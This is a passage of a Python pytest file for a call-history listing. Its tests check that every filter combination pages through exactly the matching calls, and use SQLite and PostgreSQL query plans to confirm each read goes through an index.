    kept = sorted((r for r in made if keep(r)), key=lambda r: (r["at"], r["callid"]))
    return [r["callid"] for r in reversed(kept)]


class Seen:
    """A store that remembers the operators' reads made through it."""

    def __init__(self, store):
        self.store, self.reads = store, []

    def inspect(self, sql, params=()):
        self.reads.append((sql, list(params)))
        return self.store.inspect(sql, params)


def every_page(store, f: Filters, limit: int, **kw) -> tuple[list[str], list[calls.Page]]:
    ids, pages, after = [], [], None
    for _ in range(1000):
        page = calls.recent_calls(store, f, limit=limit, after=after, **kw)
        pages.append(page)
        ids += [r.callid for r in page.rows]
        assert len(page.rows) <= limit
        assert page.scanned_to is not None or page.next is None or len(page.rows) == limit
        if page.next is None:
            return ids, pages
        after = page.next
    raise AssertionError(f"{f}: no end")


@pytest.mark.parametrize("narrow", [calls.NARROW, 40, 1])
def test_every_filter_combination_pages_through_exactly_its_calls(
    make, backend, monkeypatch, narrow
):
    """Whatever plan a page takes (a narrow filter read whole through its index, a broad
    one walked in time order, a walk stopped after ``scan`` calls), the pages together
    list exactly the matching calls, newest first, once each."""
    rt, _ = make({})
    made = bulk_calls(rt.store)
    monkeypatch.setattr(calls, "NARROW", narrow)
    stopped = 0
    for case in FILTER_CASES:
        f = Filters(**case)
        ids, pages = every_page(rt.store, f, limit=7, scan=60, seconds=60)
        assert ids == expected(made, f), case
        stopped += sum(p.scanned_to is not None for p in pages)
        for page in pages:
            if page.scanned_to is not None:  # it says where it stopped: the next goes on
                assert calls.decode_cursor(page.next)[0] == page.scanned_to
    assert (stopped > 0) == (narrow < calls.NARROW)  # only walks stop early


def explain(store, sql: str, params: list) -> list[str]:
    """The plan of a read: SQLite's EXPLAIN QUERY PLAN; PostgreSQL's EXPLAIN with
    sequential scans priced out, so that any plan left on one means no index serves it
    (a partial index whose condition the query does not imply, say)."""
    if store.backend == "sqlite":
        return [row[-1] for row in store.query("EXPLAIN QUERY PLAN " + sql, params)]
    with store.transaction() as tx:
        tx.execute("SET LOCAL enable_seqscan = off")
        return [row[0] for row in tx.all("EXPLAIN " + sql, params)]


def full_scans(plan: list[str]) -> list[str]:
    """The steps of a plan that read a whole table, or a whole index not in time order
    (walking calls_started or calls_redelivered newest first stops at a page's worth;
    ``n``, ``v`` and ``x`` are the queries' own subqueries):
    SQLite's ``SCAN``s, PostgreSQL's ``Seq Scan``s and index scans without an ``Index
    Cond`` (but the first entries of one, under a ``Limit``: a ``MIN``)."""
    walked = r"(calls_started|calls_redelivered)\b"
    bad = []
    for i, step in enumerate(plan):
        node = step.strip().removeprefix("->").strip()
        if node.startswith("Seq Scan"):
            bad.append(node)
        if node.startswith("SCAN ") and not re.match(
            rf"SCAN (n|v|x)\b|SCAN \w+ USING (COVERING )?INDEX {walked}", node
        ):
            bad.append(node)
        scans_index = re.match(r"(Bitmap )?Index (Only )?Scan", node)
        if scans_index and not re.search(rf"(using|on) {walked}", node):
            depth = len(step) - len(step.lstrip())
            details = []
            for below in plan[i + 1 :]:
                if "->" in below or len(below) - len(below.lstrip()) <= depth:
                    break
                details.append(below.strip())
            above = next(
                (a.strip().removeprefix("->").strip() for a in reversed(plan[:i])
                 if "->" in a and len(a) - len(a.lstrip()) < depth),
                plan[0] if i else "",
            )  # fmt: skip
            first = above.startswith("Limit") and not any(d.startswith("Filter:") for d in details)
            if not first and not any(d.startswith("Index Cond:") for d in details):
                bad.append(node)
    return bad


@pytest.mark.parametrize("narrow", [calls.NARROW, 1])
def test_every_filter_reads_through_an_index(make, backend, monkeypatch, narrow):
    """Every query of every filter combination reads through an index (checked on the
    plans: no full table scan, no whole index out of time order), and on SQLite a filter
    with an index of its own reads that one (PostgreSQL's planner, by its statistics,
    may walk calls_started instead for a common value: as quick)."""
    rt, _ = make({})
    bulk_calls(rt.store)
    monkeypatch.setattr(calls, "NARROW", narrow)
    own = {
        "caller": "calls_caller",
        "number": "calls_caller",
        "destination": "calls_destination",
        "outcome": "calls_outcome",
        "rule": "calls_rule",
        "plugin": "calls_decided",
        "duplicates": "calls_redelivered",
        "fallbacks": "calls_rule",
    }
    for case in FILTER_CASES:
        seen = Seen(rt.store)
        calls.recent_calls(seen, Filters(**case), limit=7, scan=60, seconds=60)
        plans = [explain(rt.store, sql, params) for sql, params in seen.reads]
        for (sql, _), plan in zip(seen.reads, plans, strict=True):
            assert not full_scans(plan), (case, sql, plan)
        alone = len(case) == 1 and next(iter(case)) in own
        if rt.store.backend == "sqlite" and narrow == calls.NARROW and alone:
            index = own[next(iter(case))]
            assert any(index in step for plan in plans for step in plan), (case, plans)
